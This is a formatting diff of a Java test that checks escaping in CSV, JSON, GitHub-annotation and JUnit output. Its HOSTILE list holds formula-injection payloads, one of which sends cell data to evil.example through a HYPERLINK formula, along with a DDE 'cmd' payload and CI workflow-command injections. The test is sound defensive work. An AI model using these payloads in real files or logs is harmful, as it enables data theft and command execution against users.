@@ -45,53 +45,88 @@ import org.w3c.dom.Element;
 import org.w3c.dom.NodeList;
 
 /**
- * Texts of a case file that try to become a formula in a spreadsheet, a workflow command in a CI log,
- * markup in a test report or a broken JSON document: each goes, as a proposal's ID, title, fund, source,
- * line text, file name, and as the overview's title, row ID and total label, through every view in CSV
- * (both dialects) and JSON, and through the findings in GitHub and JUnit, verbose or not.
+ * Texts of a case file that try to become a formula in a spreadsheet, a workflow command in a CI
+ * log, markup in a test report or a broken JSON document: each goes, as a proposal's ID, title,
+ * fund, source, line text, file name, and as the overview's title, row ID and total label, through
+ * every view in CSV (both dialects) and JSON, and through the findings in GitHub and JUnit, verbose
+ * or not.
  */
 class DataFormatsEscapingTest {
 
-  static final List<String> HOSTILE = List.of(
-      "=HYPERLINK(\"http://evil.example/?\"&A1,\"Klik\")",
-      "@SUM(1+1)*cmd|' /C calc'!A0",
-      "+1",
-      "-1 text",
-      "\tTAB først",
-      "\rCR først",
-      "I ALT\n::warning::INJECTED",
-      "::error::x",
-      " \u00A0::error::efter blanke",
-      "a ##[error]gammel syntaks",
-      "styretegn\u0000\u0007\u001b[31m\u007f\u0085\uFFFE slut",
-      "\u202Eslavt esrever",
-      "100% a:b,c;d\"e'f<g>&h");
+  static final List<String> HOSTILE =
+      List.of(
+          "=HYPERLINK(\"http://evil.example/?\"&A1,\"Klik\")",
+          "@SUM(1+1)*cmd|' /C calc'!A0",
+          "+1",
+          "-1 text",
+          "\tTAB først",
+          "\rCR først",
+          "I ALT\n::warning::INJECTED",
+          "::error::x",
+          " \u00A0::error::efter blanke",
+          "a ##[error]gammel syntaks",
+          "styretegn\u0000\u0007\u001b[31m\u007f\u0085\uFFFE slut",
+          "\u202Eslavt esrever",
+          "100% a:b,c;d\"e'f<g>&h");
 
   static Stream<Arguments> hostile() {
     return HOSTILE.stream().map(Arguments::of);
   }
 
-  /** One investment and one innovation proposal, each carrying the text, with stated figures that do not balance. */
+  /**
+   * One investment and one innovation proposal, each carrying the text, with stated figures that do
+   * not balance.
+   */
   static CaseSet cases(String h) {
-    Proposal investment = new Proposal(h, ProposalType.INVESTMENT, h, h, h, Risk.HIGH, new SourceRef(h, 7),
-        List.of(2018, 2019, 2020),
-        List.of(new Line(h, Area.SERVICE, Amounts.of(Map.of(2019, -6000L, 2020, -6000L)))),
-        List.of(new Line(h, Area.CAPITAL, Amounts.of(Map.of(2018, 4000L)))),
-        new Stated(Amounts.of(Map.of(2019, -6001L)), Amounts.empty(), Amounts.empty(), 3),
-        null, List.of(h), new Origin(h + ".yaml", Map.of("stated.permanent_total.2019", new Location(h + ".yaml", 4, 5))));
-    Proposal innovation = new Proposal("XX02", ProposalType.INNOVATION, h, null, null, null, null,
-        List.of(2018, 2019),
-        List.of(),
-        List.of(new Line(h, null, Amounts.of(Map.of(2018, 100L)))),
-        Stated.none(), null, List.of(), new Origin("cases/XX02.yaml", Map.of()));
-    Portfolio portfolio = new Portfolio(h, new SourceRef(h, 1), 2018, 2020, List.of(2019, 2020), List.of(h),
-        List.of(
-            new PortfolioRow(1, h, 3, 4000, Amounts.of(Map.of(2019, -6000L, 2020, -5999L))),
-            new PortfolioRow(2, h + "X", null, 0, Amounts.empty()),
-            new PortfolioRow(3, "XX02", null, 100, Amounts.empty())),
-        new PortfolioTotal(h, 4001, Amounts.of(Map.of(2019, -6000L, 2020, -6000L))),
-        new PortfolioTotal(h, 100, Amounts.empty()),
-        new Origin(h + "/portfolio.yaml", Map.of()));
+    Proposal investment =
+        new Proposal(
+            h,
+            ProposalType.INVESTMENT,
+            h,
+            h,
+            h,
+            Risk.HIGH,
+            new SourceRef(h, 7),
+            List.of(2018, 2019, 2020),
+            List.of(new Line(h, Area.SERVICE, Amounts.of(Map.of(2019, -6000L, 2020, -6000L)))),
+            List.of(new Line(h, Area.CAPITAL, Amounts.of(Map.of(2018, 4000L)))),
+            new Stated(Amounts.of(Map.of(2019, -6001L)), Amounts.empty(), Amounts.empty(), 3),
+            null,
+            List.of(h),
+            new Origin(
+                h + ".yaml",
+                Map.of("stated.permanent_total.2019", new Location(h + ".yaml", 4, 5))));
+    Proposal innovation =
+        new Proposal(
+            "XX02",
+            ProposalType.INNOVATION,
+            h,
+            null,
+            null,
+            null,
+            null,
+            List.of(2018, 2019),
+            List.of(),
+            List.of(new Line(h, null, Amounts.of(Map.of(2018, 100L)))),
+            Stated.none(),
+            null,
+            List.of(),
+            new Origin("cases/XX02.yaml", Map.of()));
+    Portfolio portfolio =
+        new Portfolio(
+            h,
+            new SourceRef(h, 1),
+            2018,
+            2020,
+            List.of(2019, 2020),
+            List.of(h),
+            List.of(
+                new PortfolioRow(1, h, 3, 4000, Amounts.of(Map.of(2019, -6000L, 2020, -5999L))),
+                new PortfolioRow(2, h + "X", null, 0, Amounts.empty()),
+                new PortfolioRow(3, "XX02", null, 100, Amounts.empty())),
+            new PortfolioTotal(h, 4001, Amounts.of(Map.of(2019, -6000L, 2020, -6000L))),
+            new PortfolioTotal(h, 100, Amounts.empty()),
+            new Origin(h + "/portfolio.yaml", Map.of()));
     return new CaseSet(List.of(investment, innovation), portfolio);
   }
 
@@ -105,7 +140,9 @@ class DataFormatsEscapingTest {
       all.add(Documents.report(analysis, Scenario.delayed(1), Discounting.DEFAULT, checks, lang));
       all.add(Documents.summary(analysis, Scenario.BASE, null, lang));
       all.add(Documents.show(analysis, analysis.overview().proposals(), Scenario.BASE, null, lang));
-      all.add(Documents.sensitivity(analysis, analysis.overview().proposals(), Discounting.DEFAULT, lang));
+      all.add(
+          Documents.sensitivity(
+              analysis, analysis.overview().proposals(), Discounting.DEFAULT, lang));
       all.addAll(checkDocuments(h, lang));
     }
     return all;
@@ -133,7 +170,9 @@ class DataFormatsEscapingTest {
           assertThat(r).as("%s", r).hasSize(8);
           for (int column : new int[] {0, 1, 2, 4, 5}) {
             String text = r.get(column);
-            assertThat(text.isEmpty() || "=+-@\t\r".indexOf(text.charAt(0)) < 0).as("text %s of %s", text, r).isTrue();
+            assertThat(text.isEmpty() || "=+-@\t\r".indexOf(text.charAt(0)) < 0)
+                .as("text %s of %s", text, r)
+                .isTrue();
           }
           for (int column : new int[] {3, 6, 7}) {
             assertThat(r.get(column)).as("number in %s", r).matches("-?[0-9]*");
@@ -147,10 +186,12 @@ class DataFormatsEscapingTest {
         }
       }
       String report = new CsvFormat(dialect).text(documents(h).get(0));
-      assertThat(parse(report, dialect.separator)).anySatisfy(r -> {
-        assertThat(r.get(2)).isEqualTo("permanent");
-        assertThat(r.get(7)).isEqualTo("-6000");
-      });
+      assertThat(parse(report, dialect.separator))
+          .anySatisfy(
+              r -> {
+                assertThat(r.get(2)).isEqualTo("permanent");
+                assertThat(r.get(7)).isEqualTo("-6000");
+              });
     }
   }
 
@@ -160,7 +201,9 @@ class DataFormatsEscapingTest {
     ObjectMapper json = new ObjectMapper();
     for (Document d : documents(h)) {
       String out = new JsonFormat().text(d);
-      assertThat(out.chars().filter(c -> c < 0x20 && c != '\n')).as("raw control characters").isEmpty();
+      assertThat(out.chars().filter(c -> c < 0x20 && c != '\n'))
+          .as("raw control characters")
+          .isEmpty();
       JsonNode root = json.readTree(out);
       if (root.has("report")) {
         if (!root.get("proposals").isEmpty()) {
@@ -173,7 +216,8 @@ class DataFormatsEscapingTest {
       } else if (root.get("outcome").asText().equals("invalid")) {
         assertThat(root.at("/input_errors/0/message").asText()).isEqualTo(h);
       } else {
-        assertThat(root.get("findings")).anySatisfy(f -> assertThat(f.get("subject").asText()).isEqualTo(h));
+        assertThat(root.get("findings"))
+            .anySatisfy(f -> assertThat(f.get("subject").asText()).isEqualTo(h));
       }
     }
   }
@@ -185,22 +229,44 @@ class DataFormatsEscapingTest {
       for (Document d : checkDocuments(h, lang)) {
         String out = new GithubFormat().text(d);
         FindingsView view = (FindingsView) d.views().get(0);
-        long annotations = view.errors().size() + view.items().stream()
-            .filter(i -> i.isFinding() || (view.verbose() && i.result().status() == dk.payback.check.Status.WITHIN_TOLERANCE))
-            .count();
-        long plain = view.verbose()
-            ? view.items().stream().filter(i -> i.result().status() == dk.payback.check.Status.PASS).count() : 0;
+        long annotations =
+            view.errors().size()
+                + view.items().stream()
+                    .filter(
+                        i ->
+                            i.isFinding()
+                                || (view.verbose()
+                                    && i.result().status()
+                                        == dk.payback.check.Status.WITHIN_TOLERANCE))
+                    .count();
+        long plain =
+            view.verbose()
+                ? view.items().stream()
+                    .filter(i -> i.result().status() == dk.payback.check.Status.PASS)
+                    .count()
+                : 0;
         List<String> lines = out.lines().toList();
-        assertThat(out).endsWith("\n").doesNotContain("\r").doesNotContain("##[").doesNotContain("\u202E");
+        assertThat(out)
+            .endsWith("\n")
+            .doesNotContain("\r")
+            .doesNotContain("##[")
+            .doesNotContain("\u202E");
         assertThat(lines).hasSize((int) (annotations + plain + 1));
-        assertThat(lines.stream().filter(l -> l.startsWith("::error file=") || l.startsWith("::notice file="))).hasSize((int) annotations);
+        assertThat(
+                lines.stream()
+                    .filter(l -> l.startsWith("::error file=") || l.startsWith("::notice file=")))
+            .hasSize((int) annotations);
         for (String line : lines) {
-          assertThat(line.chars().filter(c -> Character.isISOControl(c) && c != '\t')).as(line).isEmpty();
-          boolean annotation = line.startsWith("::error file=") || line.startsWith("::notice file=");
+          assertThat(line.chars().filter(c -> Character.isISOControl(c) && c != '\t'))
+              .as(line)
+              .isEmpty();
+          boolean annotation =
+              line.startsWith("::error file=") || line.startsWith("::notice file=");
           if (annotation) {
             // The properties end at the first "::"; none of the input can end them sooner.
             String properties = line.substring(2, line.indexOf("::", 2));
-            assertThat(properties).matches("(error|notice) file=[^:,]*,line=[0-9]+,col=[0-9]+,title=[^:,]*");
+            assertThat(properties)
+                .matches("(error|notice) file=[^:,]*,line=[0-9]+,col=[0-9]+,title=[^:,]*");
           } else {
             assertThat(line.replaceFirst("^[\\s\\u00A0]+", "")).as(line).doesNotStartWith("::");
           }
@@ -217,14 +283,24 @@ class DataFormatsEscapingTest {
         String xml = new JunitFormat().text(d);
         DocumentBuilderFactory f = DocumentBuilderFactory.newInstance();
         f.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true);
-        org.w3c.dom.Document doc = f.newDocumentBuilder()
-            .parse(new ByteArrayInputStream(xml.getBytes(StandardCharsets.UTF_8)));
+        org.w3c.dom.Document doc =
+            f.newDocumentBuilder()
+                .parse(new ByteArrayInputStream(xml.getBytes(StandardCharsets.UTF_8)));
         FindingsView view = (FindingsView) d.views().get(0);
         NodeList cases = doc.getElementsByTagName("testcase");
-        assertThat(cases.getLength()).isEqualTo(view.invalid() ? view.errors().size() : view.items().size());
-        String carried = h.codePoints()
-            .filter(c -> c == '\t' || c == '\n' || c == '\r' || (c >= 0x20 && c <= 0xD7FF) || (c >= 0xE000 && c <= 0xFFFD))
-            .collect(StringBuilder::new, StringBuilder::appendCodePoint, StringBuilder::append).toString();
+        assertThat(cases.getLength())
+            .isEqualTo(view.invalid() ? view.errors().size() : view.items().size());
+        String carried =
+            h.codePoints()
+                .filter(
+                    c ->
+                        c == '\t'
+                            || c == '\n'
+                            || c == '\r'
+                            || (c >= 0x20 && c <= 0xD7FF)
+                            || (c >= 0xE000 && c <= 0xFFFD))
+                .collect(StringBuilder::new, StringBuilder::appendCodePoint, StringBuilder::append)
+                .toString();
         NodeList suites = doc.getElementsByTagName("testsuite");
         List<String> names = new ArrayList<>();
         for (int i = 0; i < suites.getLength(); i++) {
@@ -239,7 +315,8 @@ class DataFormatsEscapingTest {
   @MethodSource("hostile")
   void githubAndJunitHaveALayoutForTheFindingsAlone(String h) {
     Document report = documents(h).get(0);
-    assertThatThrownBy(() -> new GithubFormat().text(report)).isInstanceOf(Format.Unsupported.class);
+    assertThatThrownBy(() -> new GithubFormat().text(report))
+        .isInstanceOf(Format.Unsupported.class);
     assertThatThrownBy(() -> new JunitFormat().text(report)).isInstanceOf(Format.Unsupported.class);
   }
 
